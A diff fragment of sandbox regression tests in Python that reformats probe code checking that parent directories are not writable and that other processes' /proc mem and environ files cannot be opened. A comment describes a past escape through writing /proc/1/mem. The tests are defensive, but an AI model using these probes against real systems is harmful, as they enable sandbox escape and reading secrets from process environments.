-    code = (f"import os\nout = {{}}\nfor d in {parents!r}:\n    try:\n"
-            "        open(os.path.join(d, 'x'), 'wb').write(b'x' * 4096)\n        out[d] = 'written'\n"
-            "    except OSError as e:\n        out[d] = e.strerror\nresult = out")
+    code = (
+        f"import os\nout = {{}}\nfor d in {parents!r}:\n    try:\n"
+        "        open(os.path.join(d, 'x'), 'wb').write(b'x' * 4096)\n        out[d] = 'written'\n"
+        "    except OSError as e:\n        out[d] = e.strerror\nresult = out"
+    )
     result = run(code, hook=False)
     assert result.ok and "written" not in result.result.values(), result.result
     assert run("open('inside', 'w').write('x')\nresult = open('inside').read()").result == "x"
@@ -728,10 +881,12 @@ def test_the_root_of_the_sandbox_is_not_writable():
 def test_no_process_of_the_namespace_can_be_written_through_proc():
     # a non-root caller's program shares its uid with bubblewrap's PID 1, which ran without the seccomp
     # filter or the limits: /proc/1/mem opened read-write was code execution outside both
-    code = ("import os\nout = {}\nfor pid in os.listdir('/proc'):\n    if not pid.isdigit() or int(pid) == os.getpid():\n"
-            "        continue\n    for name in ('mem', 'environ', 'fd/1'):\n        try:\n"
-            "            os.close(os.open(f'/proc/{pid}/{name}', os.O_RDWR if name == 'mem' else os.O_RDONLY))\n"
-            "            out[pid + '/' + name] = 'opened'\n        except OSError as e:\n"
-            "            out[pid + '/' + name] = e.strerror\nresult = out")
+    code = (
+        "import os\nout = {}\nfor pid in os.listdir('/proc'):\n    if not pid.isdigit() or int(pid) == os.getpid():\n"
+        "        continue\n    for name in ('mem', 'environ', 'fd/1'):\n        try:\n"
+        "            os.close(os.open(f'/proc/{pid}/{name}', os.O_RDWR if name == 'mem' else os.O_RDONLY))\n"
+        "            out[pid + '/' + name] = 'opened'\n        except OSError as e:\n"
+        "            out[pid + '/' + name] = e.strerror\nresult = out"
+    )
     result = run(code, hook=False)
     assert result.ok and result.result and "opened" not in result.result.values(), result.result
